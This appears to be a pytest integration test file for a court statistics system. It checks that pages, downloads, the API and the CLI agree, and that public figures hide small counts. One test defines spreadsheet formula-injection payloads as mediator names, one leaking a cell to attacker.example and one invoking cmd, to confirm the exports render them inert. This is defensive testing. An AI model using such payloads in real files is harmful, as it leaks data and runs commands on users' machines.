"""Analytics: the pages, their CSV and JSON downloads, the API and ``medcourt stats`` give the same
numbers for the same query, and those numbers are what the exported event log says; public outputs
never show a count from 1 to 4."""

from __future__ import annotations

import csv
import io
import json
import re
import statistics as pystats
from collections import defaultdict
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from domain import clock
from domain.application import Docket
from domain.vocabulary import FINDINGS
from projections import statistics as stats
from projections.settings import Settings
from scripts.cli import main as medcourt
from scripts.demo import generate
from tests.court_clock import COURT_TODAY, last_year
from tests.integration.test_api_support import ApiClient, Demo, demo_fixture  # noqa: F401 - fixture
from tests.integration.web_support import ADMIN, CLERK, PASSWORD, file_civil_case, make_app, sign_in
from web import create_app
from web.analytics.measures import MEASURE_NAMES

LAST_YEAR = last_year()
COUNTS = {
    "outcomes": stats.OUTCOME_COUNTS, "experts": stats.EXPERT_COUNTS, "hearings": stats.HEARING_COUNTS, "mediation": stats.MEDIATION_COUNTS,
    "compensation": stats.COMPENSATION_COUNTS, "appeals": stats.APPEAL_COUNTS, "funnel": stats.FUNNEL_COUNTS, "pending": ("pending", "age_bands"),
}


# --- reading pages and downloads back ------------------------------------------------------------------------------------


class Tables(HTMLParser):
    """Every statistics table of a page: table id -> [(row key, field, data-value, shown text)]."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[tuple[str, str, str, str]]] = {}
        self.downloads: list[str] = []
        self._table: str | None = None
        self._row: str | None = None
        self._cell: tuple[str, str] | None = None
        self._text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if tag == "table" and "stats" in (found.get("class") or ""):
            self._table = found.get("id") or ""
            self.tables[self._table] = []
        elif tag == "tr" and self._table is not None:
            self._row = found.get("data-key")
        elif tag == "td" and self._row is not None and "data-field" in found:
            self._cell = (found["data-field"] or "", found.get("data-value") or "")
            self._text = ""
        elif tag == "a" and (found.get("href") or "").split("?")[0].endswith(".json"):
            self.downloads.append(found["href"] or "")

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._text += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "td" and self._cell is not None and self._table is not None and self._row is not None:
            self.tables[self._table].append((self._row, *self._cell, self._text.strip()))
            self._cell = None
        elif tag == "table":
            self._table = None


def read_tables(html: str) -> Tables:
    parser = Tables()
    parser.feed(html)
    return parser


def value_at(group: dict[str, Any], path: str) -> Any:
    value: Any = group
    for part in path.split("."):
        value = value[part]
    return value


def shown(value: Any) -> str:
    return "null" if value is None else str(value)


def assert_table_matches(cells: list[tuple[str, str, str, str]], result: dict[str, Any]) -> None:
    groups = {g["key"]: g for g in result["groups"]}
    assert cells, "the table is empty"
    for row, field, value, _text in cells:
        group = groups.get(row) or (result["groups"][0] if len(result["groups"]) == 1 else None)
        assert group is not None, f"row {row} is in no group of {sorted(groups)}"
        assert value == shown(value_at(group, field)), (row, field, value)


def get_json(client: Any, url: str) -> dict[str, Any]:
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    result: dict[str, Any] = json.loads(response.get_data(as_text=True))
    return result


def cli_stats(demo: Demo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], *args: str) -> dict[str, Any]:
    monkeypatch.setenv("MEDCOURT_VAR", str(demo.var_dir))
    monkeypatch.delenv("MEDCOURT_DATABASE_URL", raising=False)
    return cli_stats_here(capsys, *args)


# --- the same numbers everywhere ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("by", ["court", "track", "month", None])
def test_outcomes_agree_on_the_page_in_downloads_in_the_api_and_from_medcourt_stats(
    demo: Demo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], by: str | None
) -> None:
    start, end = LAST_YEAR
    query = f"from={start}&to={end}&by={by or 'none'}"
    analyst = demo.client("analyst")
    downloaded = get_json(analyst, f"/analytics/outcomes.json?{query}")
    assert downloaded["groups"], "the demo has no figures for the period"

    # The page shows exactly these figures.
    page = analyst.get(f"/analytics/outcomes?{query}")
    assert page.status_code == 200
    assert_table_matches(read_tables(page.get_data(as_text=True)).tables["table-outcomes"], downloaded)

    # The CSV has the same rows and cells.
    rows = list(csv.DictReader(io.StringIO(analyst.get(f"/analytics/outcomes.csv?{query}").get_data(as_text=True))))
    assert [row["key"] for row in rows] == [group["key"] for group in downloaded["groups"]]
    for row, group in zip(rows, downloaded["groups"], strict=True):
        assert row == {name: ("" if value is None else str(value)) for name, value in stats.flatten(group).items()}

    # The API answers the same query with the same document.
    api = demo.api("analyst").get(f"/api/statistics/outcomes?{query}").get_json()
    assert api == downloaded
    api_csv = demo.api("analyst").get(f"/api/statistics/outcomes.csv?{query}").get_data(as_text=True)
    assert api_csv == analyst.get(f"/analytics/outcomes.csv?{query}").get_data(as_text=True)

    # And so does the command line.
    printed = cli_stats(demo, monkeypatch, capsys, "outcomes", "--from", str(start), "--to", str(end), *(["--by", by] if by else []))
    assert printed == downloaded


@pytest.mark.parametrize("measure", [m for m in MEASURE_NAMES if m != "pending"])
def test_every_measure_downloads_what_the_cli_prints(
    demo: Demo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], measure: str
) -> None:
    start, end = LAST_YEAR
    analyst = demo.client("analyst")
    downloaded = get_json(analyst, f"/analytics/{measure}.json?from={start}&to={end}&by=court")
    printed = cli_stats(demo, monkeypatch, capsys, measure, "--from", str(start), "--to", str(end), "--by", "court")
    assert printed == downloaded
    page = analyst.get(f"/analytics/{measure}?from={start}&to={end}&by=court").get_data(as_text=True)
    assert_table_matches(read_tables(page).tables[f"table-{measure}"], downloaded)


def test_pending_is_counted_at_the_periods_end_as_the_cli_counts_it_at_a_date(
    demo: Demo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    start, end = LAST_YEAR
    downloaded = get_json(demo.client("analyst"), f"/analytics/pending.json?from={start}&to={end}&by=track")
    printed = cli_stats(demo, monkeypatch, capsys, "pending", "--at", str(end), "--by", "track")
    assert printed["groups"] == downloaded["groups"] and printed["at"] == downloaded["at"] == str(end)


TABS = ["overview", "findings", "pending", "funnel", "experts", "hearings", "mediation", "compensation", "appeals"]
SECTIONS = ["flow", "outcomes", "findings", "pending", "funnel", "experts", "hearings", "mediation", "compensation", "appeals"]


def tab_pages(client: Any, query: str) -> dict[str, str]:
    """Every tab of the analysts' page for ``query``, found by following the page's own tab links."""
    first = client.get(f"/analytics?{query}")
    assert first.status_code == 200
    html = first.get_data(as_text=True)
    links = re.findall(r'<a href="([^"]+)" data-tab="([a-z]+)"', html)
    assert [tab for _url, tab in links] == TABS
    assert re.search(r'data-tab="overview" aria-current="page"', html), "the overview is the default tab"
    pages = {}
    for url, tab in links:
        response = client.get(url.replace("&amp;", "&"))
        assert response.status_code == 200, tab
        pages[tab] = response.get_data(as_text=True)
        assert f'data-tab="{tab}" aria-current="page"' in pages[tab]
    return pages


@pytest.mark.parametrize("query", ["by=specialty", "court=ALA&track=civil&by=month"])
def test_every_dashboard_table_shows_the_figures_its_own_download_gives(demo: Demo, query: str) -> None:
    analyst = demo.client("analyst")
    start, end = LAST_YEAR
    # One tab a request: the overview (case flow and outcomes), then one measure each; every section once.
    found = []
    for tab, html in tab_pages(analyst, f"from={start}&to={end}&{query}").items():
        parsed = read_tables(html)
        sections = re.findall(r'<section class="stats-section" id="section-([a-z]+)"', html)
        assert sections == (["flow", "outcomes"] if tab == "overview" else [tab])
        assert len(parsed.downloads) == len(sections)
        for section, url in zip(sections, parsed.downloads, strict=True):
            assert_table_matches(parsed.tables[f"table-{section}"], get_json(analyst, url.replace("&amp;", "&")))
        found += sections
    assert found == SECTIONS


def test_the_tabs_keep_the_query_and_an_unknown_tab_is_not_found(demo: Demo) -> None:
    analyst = demo.client("analyst")
    start, end = LAST_YEAR
    html = analyst.get(f"/analytics?from={start}&to={end}&court=ALA&by=court&section=appeals").get_data(as_text=True)
    for url, _tab in re.findall(r'<a href="([^"]+)" data-tab="([a-z]+)"', html):
        assert f"from={start}" in url and f"to={end}" in url and "court=ALA" in url and "by=court" in url
    # The filters form stays on the tab it was applied from.
    assert '<input type="hidden" name="section" value="appeals">' in html
    assert analyst.get(f"/analytics?from={start}&to={end}&section=nonsense").status_code == 404


def busiest(demo: Demo, by: str, query: str = "", measure: str = "outcomes", count: str = "resolved") -> str:
    """The group of the breakdown ``by`` (within ``query``) with the largest ``count`` of ``measure`` last year."""
    start, end = LAST_YEAR
    result = get_json(demo.client("analyst"), f"/analytics/{measure}.json?from={start}&to={end}&by={by}&{query}")
    return str(max((g for g in result["groups"] if g["key"] != stats.UNASSIGNED), key=lambda g: (g[count], g["key"]))["key"])


def resolved_filters(demo: Demo, filters: dict[str, str]) -> dict[str, str]:
    """``judge: busiest`` is the ALA judge with the most rulings, ``specialty: theirs`` their commonest specialty,
    ``specialty: mediated`` the specialty with the most concluded mediations in the other filters' slice. Chosen
    from the docket, so the slice holds data whatever court date the demo was generated for."""
    chosen = dict(filters)
    if chosen.get("judge") == "busiest":
        chosen["judge"] = busiest(demo, "judge", "court=ALA")
    if chosen.get("specialty") == "theirs":
        chosen["specialty"] = busiest(demo, "specialty", f"judge={chosen['judge']}")
    for name, value in list(chosen.items()):
        if value.startswith("most:"):
            _, measure, count = value.split(":")
            before = "&".join(f"{other}={chosen[other]}" for other in list(chosen)[: list(chosen).index(name)])
            chosen[name] = busiest(demo, name, before, measure=measure, count=count)
    return chosen


@pytest.mark.parametrize(("measure", "filters", "by"), [
    ("outcomes", {"court": "ALA", "track": "civil"}, "month"),
    ("outcomes", {"court": "ALA"}, "track"),
    ("outcomes", {"judge": "busiest", "specialty": "theirs"}, "finding"),
    ("experts", {"track": "civil", "specialty": "most:experts:ordered"}, "court"),
    ("compensation", {"court": "ALA", "track": "civil", "judge": "most:compensation:rulings"}, "specialty"),
    ("mediation", {"track": "civil", "court": "most:mediation:concluded", "specialty": "most:mediation:concluded"}, None),
    ("pending", {"court": "most:pending:pending", "track": "most:pending:pending"}, "judge"),
])
def test_a_filtered_query_agrees_on_the_page_in_downloads_in_the_api_and_from_medcourt_stats(
    demo: Demo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], measure: str, filters: dict[str, str], by: str | None
) -> None:
    start, end = LAST_YEAR
    filters = resolved_filters(demo, filters)
    query = f"from={start}&to={end}&by={by or 'none'}&" + "&".join(f"{name}={value}" for name, value in filters.items())
    analyst = demo.client("analyst")
    downloaded = get_json(analyst, f"/analytics/{measure}.json?{query}")
    assert downloaded["filters"] == filters and downloaded["by"] == by
    assert downloaded["groups"] and any(count for g in downloaded["groups"] for count in stats.flatten(g).values() if isinstance(count, int)), query

    page = analyst.get(f"/analytics/{measure}?{query}")
    assert page.status_code == 200
    assert_table_matches(read_tables(page.get_data(as_text=True)).tables[f"table-{measure}"], downloaded)
    page_csv = analyst.get(f"/analytics/{measure}.csv?{query}").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(page_csv)))
    assert rows == [{name: ("" if value is None else str(value)) for name, value in stats.flatten(g).items()} for g in downloaded["groups"]]

    assert demo.api("analyst").get(f"/api/statistics/{measure}?{query}").get_json() == downloaded
    assert demo.api("analyst").get(f"/api/statistics/{measure}.csv?{query}").get_data(as_text=True) == page_csv

    options = [f"--{name}={value}" for name, value in filters.items()] + (["--by", by] if by else [])
    period = ["--at", str(end)] if measure == "pending" else ["--from", str(start), "--to", str(end)]
    printed = cli_stats(demo, monkeypatch, capsys, measure, *period, *options)
    if measure == "pending":  # the pages count the caseload at the period's end, and say which period
        downloaded = {k: v for k, v in downloaded.items() if k not in ("from", "to")}
    assert printed == downloaded


def test_filters_combine_with_each_other_and_with_any_breakdown(demo: Demo) -> None:
    analyst = demo.client("analyst")
    start, end = LAST_YEAR
    base = f"/analytics/outcomes.json?from={start}&to={end}"
    by_court = {g["key"]: g for g in get_json(analyst, f"{base}&by=court")["groups"]}
    almaty = get_json(analyst, f"{base}&court=ALA&by=none")
    assert almaty["filters"] == {"court": "ALA"}
    assert {k: v for k, v in almaty["groups"][0].items() if k != "key"} == {k: v for k, v in by_court["ALA"].items() if k != "key"}

    # A filter with a breakdown by another dimension: the groups add up to the filtered whole.
    by_track = get_json(analyst, f"{base}&court=ALA&by=track")
    assert by_track["by"] == "track" and len(by_track["groups"]) > 1
    for name in ("filed", "reopened", "resolved", "merits", "liability_found", "pending_at_end"):
        assert sum(g[name] for g in by_track["groups"]) == almaty["groups"][0][name], name
    monthly = get_json(analyst, f"{base}&court=ALA&by=month")
    assert len(monthly["groups"]) == 12 and sum(g["filed"] for g in monthly["groups"]) == almaty["groups"][0]["filed"]

    # Two filters are the matching group of the breakdown by the second within the first.
    civil = get_json(analyst, f"{base}&court=ALA&track=civil&by=none")
    expected = next(g for g in by_track["groups"] if g["key"] == "civil")
    assert {k: v for k, v in civil["groups"][0].items() if k != "key"} == {k: v for k, v in expected.items() if k != "key"}
    assert 0 < civil["groups"][0]["filed"] < almaty["groups"][0]["filed"]

    # The judge filter follows the judge each figure is attributed to, as the breakdown by judge does.
    judge = busiest(demo, "judge", "court=ALA")
    by_judge = {g["key"]: g for g in get_json(analyst, f"{base}&court=ALA&by=judge")["groups"]}
    theirs = get_json(analyst, f"{base}&court=ALA&judge={judge}&by=none")["groups"][0]
    assert theirs["resolved"] == by_judge[judge]["resolved"] > 0

    # Nothing to drop any more: the dashboard shows the breakdown asked for, and says nothing about it.
    page = analyst.get(f"/analytics?from={start}&to={end}&court=ALA&track=civil&by=specialty")
    assert page.status_code == 200 and "alert-info" not in page.get_data(as_text=True).split("<main", 1)[1].split('id="section-', 1)[0]
    unknown = analyst.get(f"{base}&court=ALA&judge=nobody")
    assert unknown.status_code == 400 and json.loads(unknown.get_data(as_text=True))["field"] == "judge"


# --- against the event log itself ------------------------------------------------------------------------------------------


def exported_events(demo: Demo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> list[dict[str, Any]]:
    monkeypatch.setenv("MEDCOURT_VAR", str(demo.var_dir))
    monkeypatch.delenv("MEDCOURT_DATABASE_URL", raising=False)
    capsys.readouterr()
    assert medcourt(["export", "events"]) == 0
    return [json.loads(line) for line in capsys.readouterr().out.splitlines() if line.strip()]


def outcomes_from_events(events: list[dict[str, Any]], start: date, end: date) -> dict[str, dict[str, Any]]:
    """DOMAIN.md section 4, counted straight from the exported log, per court."""
    cases: dict[str, dict[str, Any]] = {}
    for event in events:
        if event["aggregate"] != "Case":
            continue
        data, kind = event["data"], event["type"]
        if kind == "CaseFiled":
            cases[event["aggregate_id"]] = {"court": data["court"], "received_on": date.fromisoformat(data["received_on"]), "rulings": [], "reopenings": []}
            continue
        case = cases[event["aggregate_id"]]
        if kind == "DocketEntryCorrected" and data.get("entry_type") == "CaseFiled" and "received_on" in data["corrections"]:
            case["received_on"] = date.fromisoformat(data["corrections"]["received_on"])
        elif kind == "RulingIssued":
            case["rulings"].append((event["version"], date.fromisoformat(data["decided_on"]), data["disposition"], data.get("finding")))
        elif kind == "CaseReopened":
            case["reopenings"].append((event["version"], date.fromisoformat(data["reopened_on"])))
    courts: dict[str, dict[str, Any]] = defaultdict(lambda: {
        "filed": 0, "reopened": 0, "resolved": 0, "merits": 0, "liability_found": 0, "findings": dict.fromkeys(FINDINGS, 0), "days": [], "pending_at_end": 0,
    })
    for case in cases.values():
        figures = courts[case["court"]]
        figures["filed"] += start <= case["received_on"] <= end
        figures["reopened"] += sum(1 for _, on in case["reopenings"] if start <= on <= end)
        for index, (_version, decided_on, disposition, finding) in enumerate(case["rulings"]):
            if not start <= decided_on <= end:
                continue
            figures["resolved"] += 1
            if disposition in ("liability_found", "no_liability"):
                figures["merits"] += 1
                figures["liability_found"] += disposition == "liability_found"
                figures["findings"][finding] += 1
            if index == 0:
                figures["days"].append((decided_on - case["received_on"]).days)
        # Pending at the end: received by then, no ruling dated by then after the latest (re)opening dated by then.
        opened = max([1] + [version for version, on in case["reopenings"] if on <= end])
        closed = any(on <= end and version > opened for version, on, _d, _f in case["rulings"])
        figures["pending_at_end"] += case["received_on"] <= end and not closed
    return courts


def test_outcomes_match_an_independent_count_of_the_exported_event_log(
    demo: Demo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    start, end = LAST_YEAR
    expected = outcomes_from_events(exported_events(demo, monkeypatch, capsys), start, end)
    shown_groups = {g["key"]: g for g in get_json(demo.client("analyst"), f"/analytics/outcomes.json?from={start}&to={end}&by=court")["groups"]}
    assert set(shown_groups) == {court for court, f in expected.items() if f["filed"] or f["resolved"] or f["reopened"] or f["pending_at_end"]}
    for court, group in shown_groups.items():
        figures = expected[court]
        assert group["filed"] == figures["filed"], court
        assert group["reopened"] == figures["reopened"], court
        assert group["incoming"] == figures["filed"] + figures["reopened"], court
        assert group["resolved"] == figures["resolved"], court
        assert group["merits"] == figures["merits"], court
        assert group["liability_found"] == figures["liability_found"], court
        assert group["findings"] == figures["findings"], court
        assert group["pending_at_end"] == figures["pending_at_end"], court
        median = None if not figures["days"] else round(float(pystats.median(figures["days"])), 1)
        assert group["median_days_to_disposition"] == median, court
        rate = None if not figures["filed"] + figures["reopened"] else round(100 * figures["resolved"] / (figures["filed"] + figures["reopened"]), 2)
        assert group["clearance_rate"] == rate, court


# --- who sees what ----------------------------------------------------------------------------------------------------------


def test_the_dashboards_are_for_analysts_and_administrators(demo: Demo) -> None:
    assert demo.client("analyst").get("/analytics").status_code == 200
    assert demo.client("admin").get("/analytics/experts.csv").status_code == 200
    assert demo.client("clerk").get("/analytics").status_code == 403
    assert demo.client("clerk").get("/analytics/outcomes.json").status_code == 403
    anonymous = demo.client().get("/analytics")
    assert anonymous.status_code == 302 and "/login" in anonymous.headers["Location"]


def test_every_chart_is_described_and_sits_beside_its_table(demo: Demo) -> None:
    charts: list[str] = []
    for html in tab_pages(demo.client("analyst"), "").values():
        found = re.findall(r'<svg class="chart" id="([^"]+)"[^>]*role="img" aria-labelledby="\1-title \1-desc"', html)
        for chart in found:
            assert f'<title id="{chart}-title">' in html and f'<desc id="{chart}-desc">' in html
        assert "http://" not in html.split("<main", 1)[1] and "https://" not in html.split("<main", 1)[1]
        charts += found
    assert len(charts) == 13
    for wanted in ("chart-flow", "chart-clearance", "chart-disposition", "chart-pending", "chart-funnel", "chart-findings",
                   "chart-turnaround", "chart-late", "chart-mediation", "chart-compensation", "chart-appeals"):
        assert wanted in charts


def test_a_malformed_query_is_explained_not_answered(demo: Demo) -> None:
    analyst = demo.client("analyst")
    page = analyst.get("/analytics?from=2025-13-40")
    assert page.status_code == 400 and 'id="query-error"' in page.get_data(as_text=True)
    backwards = analyst.get("/analytics/outcomes.csv?from=2025-05-01&to=2025-01-01")
    assert backwards.status_code == 400 and json.loads(backwards.get_data(as_text=True))["field"] == "to"
    assert analyst.get("/analytics/nonsense").status_code == 404
    api = demo.api("analyst").get("/api/statistics/outcomes?from=2025-05-01&to=2025-01-01")
    assert api.status_code == 422 and api.get_json()["field"] == "to"


# --- public statistics: small cells suppressed ---------------------------------------------------------------------------------


def small_counts(measure: str, result: dict[str, Any]) -> list[str]:
    """Count fields of a result holding 1-4 (what public output must never show)."""
    found = []
    for group in result["groups"]:
        for name in COUNTS[measure]:
            value = group.get(name)
            values = value.items() if isinstance(value, dict) else [(name, value)]
            for label, count in values:
                if isinstance(count, int) and not isinstance(count, bool) and 1 <= count <= 4:
                    found.append(f"{group['key']}.{name}.{label}={count}")
    return found


PUBLIC_QUERIES = ["by=court", "by=year", "by=specialty", "court=ALA&by=none", "by=track", "by=finding", "court=ALA&by=track",
                  "track=civil&specialty=surgery&by=court"]


@pytest.mark.parametrize("measure", ["outcomes", "pending", "funnel", "mediation", "compensation", "appeals"])
def test_public_downloads_never_show_a_count_from_one_to_four(demo: Demo, measure: str) -> None:
    anyone = demo.client()
    start, end = LAST_YEAR
    exact_small = 0
    for query in PUBLIC_QUERIES:
        if measure in ("pending", "funnel", "mediation") and "finding" in query or measure == "pending" and "year" in query:
            continue
        url = f"/public/statistics/{measure}.json?from={start}&to={end}&{query}"
        public = get_json(anyone, url)
        assert public["public"] is True
        assert small_counts(measure, public) == [], url
        table = list(csv.reader(io.StringIO(anyone.get(url.replace(".json", ".csv")).get_data(as_text=True))))
        counted = [i for i, column in enumerate(table[0]) if any(column == c or column.startswith(f"{c}_") for c in COUNTS[measure])]
        for row in table[1:]:
            assert not {"1", "2", "3", "4"} & {row[i] for i in counted}, (url, row)
        exact_small += len(small_counts(measure, get_json(demo.client("analyst"), url.replace("/public/statistics/", "/analytics/"))))
    assert exact_small > 0, "the demo should have small cells for suppression to hide"


def test_the_public_statistics_page_shows_no_small_count_in_its_tables_or_charts(demo: Demo) -> None:
    anyone = demo.client()
    for query in ("", "?by=court", "?by=year", "?court=ULY", "?by=specialty"):
        response = anyone.get(f"/public/statistics{query}")
        assert response.status_code == 200
        html = response.get_data(as_text=True)
        count_fields = {name for names in COUNTS.values() for name in names}
        for table, cells in read_tables(html).tables.items():
            for row, field, value, text in cells:
                if field.split(".")[0] in count_fields:
                    assert value not in ("1", "2", "3", "4") and text not in ("1", "2", "3", "4"), (query, table, row, field)
        for chart in ("chart-findings", "chart-pending"):
            svg = html.split(f'id="{chart}"', 1)[1].split("</svg>", 1)[0]
            assert not re.search(r'data-value="[1-4]"', svg), (query, chart)
            assert not re.search(r">[1-4]</text>", svg), (query, chart)
    assert "&lt;5" in anyone.get("/public/statistics?by=court").get_data(as_text=True)


def test_public_figures_are_the_suppressed_figures_medcourt_stats_prints(
    demo: Demo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    start, end = LAST_YEAR
    public = get_json(demo.client(), f"/public/statistics/outcomes.json?from={start}&to={end}&by=court")
    printed = cli_stats(demo, monkeypatch, capsys, "outcomes", "--from", str(start), "--to", str(end), "--by", "court", "--public")
    assert printed == public


def test_the_public_cannot_ask_for_judges(demo: Demo) -> None:
    anyone = demo.client()
    assert anyone.get("/public/statistics?by=judge").status_code == 400
    assert anyone.get("/public/statistics/outcomes.json?judge=someone").status_code == 400
    assert anyone.get("/public/statistics/experts.json").status_code == 404


def test_the_page_the_api_and_the_cli_agree_on_sqlite_and_postgresql(
    settings: Settings, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # A small demo in a fresh installation of each back end, projected by `medcourt projections run`.
    assert medcourt(["init"]) == 0
    docket = Docket(env=settings.event_store_env())
    generate(docket, 40, 3, COURT_TODAY)
    assert medcourt(["projections", "run", "--until-caught-up"]) == 0
    capsys.readouterr()
    app = create_app({"TESTING": True, "MEDCOURT_SETTINGS": settings, "SECRET_KEY": "test", "ARGON2_TIME_COST": 1, "ARGON2_MEMORY_COST": 64})
    try:
        app.extensions["medcourt"].accounts.create_user("analyst", PASSWORD, "analyst", language="en")
        token = app.extensions["medcourt_api_tokens"].create("analyst", name="tests", created_by="tests")[0]
        start, end = date(COURT_TODAY.year - 5, 1, 1), COURT_TODAY
        browser = app.test_client()
        sign_in(browser, "analyst")
        court = max(get_json(browser, f"/analytics/outcomes.json?from={start}&to={end}&by=court")["groups"], key=lambda g: g["filed"])["key"]
        for query, options in ((f"from={start}&to={end}&by=track", ["--by", "track"]),
                               (f"from={start}&to={end}&court={court}&track=civil&by=year", ["--court", court, "--track", "civil", "--by", "year"])):
            page_json = get_json(browser, f"/analytics/outcomes.json?{query}")
            api_json = ApiClient(app.test_client(), token).get(f"/api/statistics/outcomes?{query}").get_json()
            assert api_json == page_json and sum(g["filed"] for g in page_json["groups"]) > 0
            assert cli_stats_here(capsys, "outcomes", "--from", str(start), "--to", str(end), *options) == page_json
        assert sum(g["filed"] for g in get_json(browser, f"/analytics/outcomes.json?from={start}&to={end}")["groups"]) >= 40
    finally:
        app.extensions["medcourt"].close()


def cli_stats_here(capsys: pytest.CaptureFixture[str], *args: str) -> dict[str, Any]:
    """``medcourt stats ... --format json`` on the installation the environment names."""
    capsys.readouterr()
    assert medcourt(["stats", *args, "--format", "json"]) == 0
    result: dict[str, Any] = json.loads(capsys.readouterr().out)
    return result


# --- public periods: one whole quarter or year (DOMAIN.md section 4) -----------------------------------------------------


def test_public_statistics_cover_one_whole_quarter_or_year_so_no_difference_reveals_a_hidden_count(
    demo: Demo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    anyone = demo.client()
    year = LAST_YEAR[0].year
    # A quarter and a year are public periods.
    assert get_json(anyone, f"/public/statistics/outcomes.json?from={year}-04-01&to={year}-06-30")["public"] is True
    assert anyone.get(f"/public/statistics?from={year}-01-01&to={year}-12-31").status_code == 200
    # Overlapping periods (the first half, then the first quarter) would give the second quarter by difference.
    half = anyone.get(f"/public/statistics/outcomes.json?from={year}-01-01&to={year}-06-30")
    assert half.status_code == 400 and json.loads(half.get_data(as_text=True))["field"] == "from"
    page = anyone.get(f"/public/statistics?from={year}-01-15&to={year}-03-31")
    assert page.status_code == 400 and 'id="query-error"' in page.get_data(as_text=True)
    # Months are parts of a quarter: not public either.
    by_month = anyone.get(f"/public/statistics/appeals.csv?from={year}-01-01&to={year}-12-31&by=month")
    assert by_month.status_code == 400 and json.loads(by_month.get_data(as_text=True))["field"] == "by"
    # The command line refuses the same, with one line on stderr; analysts still ask for any period.
    monkeypatch.setenv("MEDCOURT_VAR", str(demo.var_dir))
    monkeypatch.delenv("MEDCOURT_DATABASE_URL", raising=False)
    capsys.readouterr()
    assert medcourt(["stats", "outcomes", "--from", f"{year}-01-01", "--to", f"{year}-06-30", "--public"]) == 2
    error = capsys.readouterr().err
    assert error.count("\n") == 1 and "whole calendar quarter or year" in error
    assert cli_stats_here(capsys, "outcomes", "--from", f"{year}-01-01", "--to", f"{year}-06-30")["public"] is False


def test_a_reversal_rate_is_suppressed_on_its_own_numerator_not_on_the_upheld_count() -> None:
    # 10 upheld, 2 reversed: "16.67 % of 12" would give away the 2 (the old basis was the upheld count, 10, shown).
    group = {"key": "all", "rulings": 40, "appeals_filed": 12, "appeal_rate": 30.0, "appeals_decided": 12,
             "outcomes": {"upheld": 10, "modified": 0, "reversed": 2, "remanded": 0}, "appeals_changed": 2, "reversal_rate": 16.67}
    shown = stats.suppress(group, stats.APPEAL_COUNTS, stats.APPEAL_BASIS, stats.APPEAL_RELATIONS)
    assert shown["appeals_changed"] == "<5" and shown["outcomes"]["reversed"] == "<5"
    assert shown["reversal_rate"] == "suppressed"
    # Nor can the hidden changed count be worked out as decided minus upheld.
    assert "suppressed" in (shown["appeals_decided"], shown["outcomes"]["upheld"])


# --- downloads a spreadsheet opens: text never runs as a formula ---------------------------------------------------------

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


def test_a_mediator_named_like_a_formula_downloads_as_text_in_csv_and_xlsx(tmp_path: Path) -> None:
    import openpyxl

    # A court whose only mediator is named like a spreadsheet formula (issue 14's report).
    app = make_app(tmp_path / "var")
    services = app.extensions["medcourt"]
    docket: Docket = services.docket
    with clock.frozen_at(datetime(2025, 5, 12, 9, 0, tzinfo=UTC)):
        mediator = docket.register_mediator(FORMULA, "ALA", "=cmd|' /C calc'!A0", ADMIN)["id"]
        number = file_civil_case(docket, received_on=date(2025, 5, 5))
        docket.refer_to_mediation(number, mediator_id=mediator, due_on=date(2025, 6, 30), actor=CLERK)
    services.accounts.create_user("analyst", PASSWORD, "analyst", language="en")
    token, _record = app.extensions["medcourt_api_tokens"].create("analyst", name="tests", created_by="tests")
    query = "from=2025-01-01&to=2025-12-31&by=mediator"
    analyst = app.test_client()
    sign_in(analyst, "analyst")
    api = ApiClient(app.test_client(), token)

    # The exact requests of the report, and the XLSX beside them.
    for response in (analyst.get(f"/analytics/mediation.csv?{query}"), api.get(f"/api/statistics/mediation.csv?{query}")):
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
        labels = [row[rows[0].index("label")] for row in rows[1:]]
        assert labels == ["'" + FORMULA]
        assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
    for response in (analyst.get(f"/analytics/mediation.xlsx?{query}"), api.get(f"/api/statistics/mediation.xlsx?{query}")):
        assert response.status_code == 200 and response.mimetype == stats.XLSX_MEDIA_TYPE
        sheet = openpyxl.load_workbook(io.BytesIO(response.get_data()))["mediation"]
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert "'" + FORMULA in [cell.value for cell in cells]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        referred = [row[[c.value for c in sheet[1]].index("referred")].value for row in sheet.iter_rows(min_row=2)]
        assert referred == [1]  # figures stay numbers
    services.close()


# --- the methodology page: every figure defined, in each language, linked from every section ------------------------------


@pytest.mark.parametrize(("language", "words"), [("en", "Clearance rate"), ("ru", "Коэффициент рассмотрения"), ("kk", "Қарау коэффициенті")])
def test_the_methodology_page_defines_every_figure_in_each_language(demo: Demo, language: str, words: str) -> None:
    page = demo.client().get("/public/statistics/methodology", headers={"Accept-Language": language})
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert words in html and "DOMAIN.md" not in html
    for measure in MEASURE_NAMES:
        assert f'id="{measure}"' in html, measure
        counts = COUNTS[measure]
        fields = re.findall(r'data-field="([^"]+)"', html.split(f'id="figures-{measure}"', 1)[1].split("</table>", 1)[0])
        assert set(counts) <= set(fields), (measure, set(counts) - set(fields))
    # Every rate is listed with what public output suppresses it on: its own numerator and denominator.
    reversal = html.split('id="figures-appeals"', 1)[1].split('data-field="reversal_rate"', 1)[1].split("</tr>", 1)[0]
    if language == "en":
        assert "Reversed, modified or remanded, Appeals decided" in reversal


